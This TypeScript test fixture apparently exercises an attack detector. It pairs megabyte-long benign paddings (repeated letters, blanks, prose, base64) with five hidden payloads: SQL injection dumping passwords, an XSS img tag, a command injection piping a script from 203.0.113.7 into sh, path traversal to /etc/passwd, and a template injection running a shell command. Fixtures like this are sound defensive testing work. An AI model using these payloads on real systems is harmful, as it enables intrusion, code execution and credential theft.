const MEGABYTE = 1_000_000;

const PROSE =
  'The poll opens on Monday and closes when all votes are in, so please send yours before noon; our office (second floor) ' +
  'is open from 9:30 to 17:00. "Thank you," said Ada, "I\'ll order by phone and select a table for 4." Prices start at ' +
  '12.50 EUR, less 5% for members & friends: see section 3/4 or write to polls@example.com. It is not much, is it?\n';

const fill = (unit: string): string => unit.repeat(Math.ceil(MEGABYTE / unit.length));

/** A megabyte of what honest events carry, in front of something else. */
export const PADDINGS: readonly (readonly [kind: string, text: string])[] = [
  ['letters', fill('a')],
  ['blanks', fill(' ')],
  ['plain words', fill('the quick brown fox ')],
  ['prose with punctuation', fill(PROSE)],
  ['base64', Buffer.from(fill(PROSE)).toString('base64').slice(0, MEGABYTE)],
  [
    'base64 of bytes',
    Buffer.from(Array.from({ length: 750_000 }, (_, i) => (i * 131 + (i >> 7)) & 255)).toString('base64'),
  ],
];

/** An attack of each class that must be found behind them. */
export const HIDDEN: readonly (readonly [id: string, payload: string])[] = [
  ['sqli', "' UNION SELECT name, password FROM users-- "],
  ['xss', '<img src=x onerror=alert(document.domain)>'],
  ['cmdi', '; curl http://203.0.113.7/x | sh'],
  ['traversal', '../../../../../../etc/passwd'],
  ['ssti', "{{ self.__init__.__globals__['os'].popen('id').read() }}"],
];
